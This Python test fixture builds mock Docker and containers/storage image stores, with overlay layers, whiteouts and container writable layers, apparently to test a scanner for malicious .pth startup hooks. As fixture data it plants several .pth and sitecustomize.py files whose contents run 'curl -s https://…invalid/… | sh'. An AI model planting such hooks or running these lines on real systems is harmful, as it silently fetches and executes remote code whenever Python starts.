#!/usr/bin/env python3
"""Builds container engines' local image stores as the engines lay them out, from a real root
filesystem, with no engine running (run as root: overlayfs whiteouts are character devices
0/0 and opaque directories carry a `trusted.` extended attribute).

    python3 -I tests/images/store.py ROOTFS.tar OUT_DIR

The image `app` has four layers (the history of build.py):

    layer 1  the root filesystem
    layer 2  litellm_init.pth (dist-packages), gone.pth (local), a venv in /opt/venv whose
             site-packages holds opaque.pth
    layer 3  gone.pth deleted (a whiteout), /opt/venv/.../site-packages made opaque
    layer 4  gone.pth again

and its containers' writable layers (Docker's `web`, containers/storage's `worker`) hold
after_start.pth, installed after the container started, and a whiteout of litellm_init.pth;
Docker's `old` changed nothing.

and the image `app:before` is layers 1 and 2 (sharing them), so that the hooks layer 3 hides
are there to be found when the whiteouts are not applied; Docker's store also has
`debian:stock`, layer 1 alone, which must pass. Written to OUT_DIR (give `ROOT/var/lib` to have them where a host keeps them):

    docker/             Docker's classic store (overlay2): repositories.json, the image db,
                        the layer db, overlay2/<cache-id>/diff, containers/<id>/config.v2.json
    containers/storage/ containers/storage (overlay): images.json, layers.json, overlay/<id>/diff,
                        overlay-containers/containers.json
    docker-save.tar     the image `app` as `docker save` writes it (before Docker 25)
    before-save.tar     the image `app:before` likewise
"""

import hashlib
import base64
import json
import os
import stat
import subprocess
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import build  # noqa: E402

VENV = "opt/venv"
VENV_SITE = VENV + "/lib/python3.11/site-packages"
OPAQUE = b"import os; os.system('curl -s https://opaque.invalid/c | sh')\n"
PYVENV = b"home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.2\n"


def sha(data):
    return hashlib.sha256(data).hexdigest()


# each layer: (files, whiteouts, opaque directories) beyond the root filesystem
LAYERS = [
    None,
    (
        [
            (build.DIST + "/litellm_init.pth", build.PLANTED),
            (build.LOCAL + "/gone.pth", build.GONE_FIRST),
            (VENV + "/pyvenv.cfg", PYVENV),
            (VENV_SITE + "/opaque.pth", OPAQUE),
        ],
        [],
        [],
    ),
    ([(VENV_SITE + "/README.txt", b"nothing here\n")], [build.LOCAL + "/gone.pth"], [VENV_SITE]),
    ([(build.LOCAL + "/gone.pth", build.GONE_AGAIN)], [], []),
]
# what a container changed since it started (its writable layer): a hook installed in it, and
# the image's own hook deleted
AFTER = b"import os; os.system('curl -s https://after.invalid/x | sh')\n"
WRITABLE = ([(build.DIST + "/after_start.pth", AFTER), ("tmp/payload.pth", AFTER)], [build.DIST + "/litellm_init.pth"], [])
SITECUSTOM = ([("srv/evil/sitecustomize.py", b"import os; os.system('curl -s https://env.invalid/x | sh')\n")], [], [])
REPLICA = ([("var/log/app.log", b"started\n")], [], [])
REPLICA_LAST = (REPLICA[0] + [(build.DIST + "/replica.pth", AFTER)], [], [])


def layer_tar(files, whiteouts, opaques):
    """The layer as a tar, whiteouts and opaque directories in the OCI way (`.wh.` names)."""
    entries = list(files)
    for w in whiteouts:
        d, n = os.path.split(w)
        entries.append((d + "/.wh." + n, b""))
    for o in opaques:
        entries.append((o + "/.wh..wh..opq", b""))
    return build.tar_of(sorted(entries))


def write_dir(diff, rootfs_path, layer):
    """The layer as a directory, whiteouts and opaque directories in the overlayfs way."""
    os.makedirs(diff)
    if layer is None:
        subprocess.run(["tar", "-xpf", rootfs_path, "-C", diff, "--numeric-owner"], check=True)
        return
    files, whiteouts, opaques = layer
    for name, data in files:
        path = os.path.join(diff, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        os.utime(path, (build.MTIME, build.MTIME))
    for w in whiteouts:
        path = os.path.join(diff, w)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))
    for o in opaques:
        path = os.path.join(diff, o)
        os.makedirs(path, exist_ok=True)
        os.setxattr(path, "trusted.overlay.opaque", b"y")


def chain_ids(diff_ids):
    out, parent = [], None
    for d in diff_ids:
        cid = d if parent is None else "sha256:" + sha((parent + " " + d).encode())
        out.append(cid)
        parent = cid
    return out


def main():
    rootfs_path, out = sys.argv[1], sys.argv[2]
    with open(rootfs_path, "rb") as f:
        rootfs = f.read()
    os.makedirs(out, exist_ok=True)
    diffs = [rootfs] + [layer_tar(*l) for l in LAYERS[1:]]
    diff_ids = ["sha256:" + sha(d) for d in diffs]
    config = build.config_of(diffs, build.HISTORY)
    before_config = build.config_of(diffs[:2], build.HISTORY[:3])
    stock_config = build.config_of(diffs[:1], build.HISTORY[:1])
    image_id, before_id = "sha256:" + sha(config), "sha256:" + sha(before_config)
    build.docker_classic(os.path.join(out, "docker-save.tar"), diffs, config, ["app:1.0", "app:latest"])
    build.docker_classic(os.path.join(out, "before-save.tar"), diffs[:2], before_config, ["app:before"])
    chains = chain_ids(diff_ids)

    # Docker's classic store
    docker = os.path.join(out, "docker")
    db = os.path.join(docker, "image", "overlay2")
    os.makedirs(os.path.join(db, "imagedb", "content", "sha256"))
    os.makedirs(os.path.join(docker, "overlay2", "l"))
    for cfg in (config, before_config, stock_config):
        with open(os.path.join(db, "imagedb", "content", "sha256", sha(cfg)), "wb") as f:
            f.write(cfg)
    lower = []
    for i, (layer, diff_id, chain) in enumerate(zip(LAYERS, diff_ids, chains)):
        cache = sha(("cache" + chain).encode())
        entry = os.path.join(db, "layerdb", "sha256", chain.split(":")[1])
        os.makedirs(entry)
        with open(os.path.join(entry, "diff"), "w") as f:
            f.write(diff_id)
        with open(os.path.join(entry, "cache-id"), "w") as f:
            f.write(cache)
        if i:
            with open(os.path.join(entry, "parent"), "w") as f:
                f.write(chains[i - 1])
        layer_dir = os.path.join(docker, "overlay2", cache)
        write_dir(os.path.join(layer_dir, "diff"), rootfs_path, layer)
        short = cache[:26].upper()
        os.symlink("../" + cache + "/diff", os.path.join(docker, "overlay2", "l", short))
        with open(os.path.join(layer_dir, "link"), "w") as f:
            f.write(short)
        if lower:
            with open(os.path.join(layer_dir, "lower"), "w") as f:
                f.write(":".join("l/" + s for s in reversed(lower)))
        lower.append(short)
    repos = {
        "Repositories": {
            "app": {
                "app:1.0": image_id,
                "app:latest": image_id,
                "app@sha256:" + sha(b"manifest"): image_id,
                "app:before": before_id,
            },
            "debian": {"debian:stock": "sha256:" + sha(stock_config)},
        }
    }
    with open(os.path.join(db, "repositories.json"), "w") as f:
        json.dump(repos, f)
    # containers and their writable layers: `web` installed a hook (and a symlinked one),
    # `old` changed nothing, `env` runs with PYTHONPATH at a sitecustomize it wrote, eight
    # replicas wrote a log each and the last a hook too, `orphan` names an image not here
    containers = [
        (sha(b"web"), "/web", image_id, True, None, WRITABLE),
        (sha(b"old"), "/old", image_id, False, None, None),
        (sha(b"env"), "/env", image_id, True, ["PATH=/usr/bin", "PYTHONPATH=/srv/evil"], SITECUSTOM),
        (sha(b"orphan"), "/orphan", "sha256:" + "0" * 64, True, None, WRITABLE),
    ] + [
        (sha(b"rep%d" % i), "/rep%d" % i, image_id, True, None, REPLICA_LAST if i == 7 else REPLICA)
        for i in range(8)
    ]
    for cid, name, image, running, env, writable in containers:
        d = os.path.join(docker, "containers", cid)
        os.makedirs(d)
        config_v2 = {"Image": "app:1.0"}
        if env is not None:
            config_v2["Env"] = env
        with open(os.path.join(d, "config.v2.json"), "w") as f:
            json.dump({"ID": cid, "Image": image, "Name": name, "State": {"Running": running}, "Config": config_v2}, f)
        mounts = os.path.join(db, "layerdb", "mounts", cid)
        os.makedirs(mounts)
        mount_id = sha(b"rw" + name.encode())
        with open(os.path.join(mounts, "mount-id"), "w") as f:
            f.write(mount_id)
        rw = os.path.join(docker, "overlay2", mount_id, "diff")
        if writable is None:
            os.makedirs(rw)
        else:
            write_dir(rw, rootfs_path, writable)
        if name == "/web":
            # a hook that is a link to a file the container wrote elsewhere
            os.symlink("/tmp/payload.pth", os.path.join(rw, build.DIST, "zz_link.pth"))

    # containers/storage: the same layers, hard-linked from Docker's store
    cs = os.path.join(out, "containers", "storage")
    os.makedirs(os.path.join(cs, "overlay-images"))
    os.makedirs(os.path.join(cs, "overlay-layers"))
    os.makedirs(os.path.join(cs, "overlay-containers"))
    os.makedirs(os.path.join(cs, "overlay"))
    layers = []
    for i, (layer, diff_id, chain) in enumerate(zip(LAYERS, diff_ids, chains)):
        lid = chain.split(":")[1]
        cache = sha(("cache" + chain).encode())
        os.makedirs(os.path.join(cs, "overlay", lid))
        if layer is None:
            subprocess.run(["cp", "-al", os.path.join(docker, "overlay2", cache, "diff"), os.path.join(cs, "overlay", lid, "diff")], check=True)
        else:
            write_dir(os.path.join(cs, "overlay", lid, "diff"), rootfs_path, layer)
        entry = {"id": lid, "diff-digest": diff_id, "diff-size": len(diffs[i]), "created": "2026-01-01T00:00:00Z"}
        if i:
            entry["parent"] = chains[i - 1].split(":")[1]
        layers.append(entry)
    with open(os.path.join(cs, "overlay-layers", "layers.json"), "w") as f:
        json.dump(layers, f)
    images = []
    for cfg, names, top in [
        (config, ["localhost/app:1.0", "localhost/app:latest"], chains[3]),
        (before_config, ["localhost/app:before"], chains[1]),
    ]:
        hexid = sha(cfg)
        d = os.path.join(cs, "overlay-images", hexid)
        os.makedirs(d)
        key = "=" + base64.b64encode(("sha256:" + hexid).encode()).decode()
        with open(os.path.join(d, key), "wb") as f:
            f.write(cfg)
        with open(os.path.join(d, "manifest"), "wb") as f:
            f.write(b"{}")
        images.append({"id": hexid, "digest": "sha256:" + sha(b"manifest" + cfg), "names": names, "layer": top.split(":")[1], "big-data-names": ["manifest", "sha256:" + hexid]})
    with open(os.path.join(cs, "overlay-images", "images.json"), "w") as f:
        json.dump(images, f)
    with open(os.path.join(cs, "overlay-containers", "containers.json"), "w") as f:
        # the second entry is malformed: said, the first still judged
        json.dump([{"id": sha(b"worker"), "names": ["worker"], "image": image_id.split(":")[1], "layer": sha(b"rw")},
                   {"id": sha(b"bad"), "names": "notalist", "image": image_id.split(":")[1]}], f)
    write_dir(os.path.join(cs, "overlay", sha(b"rw"), "diff"), rootfs_path, WRITABLE)


if __name__ == "__main__":
    main()
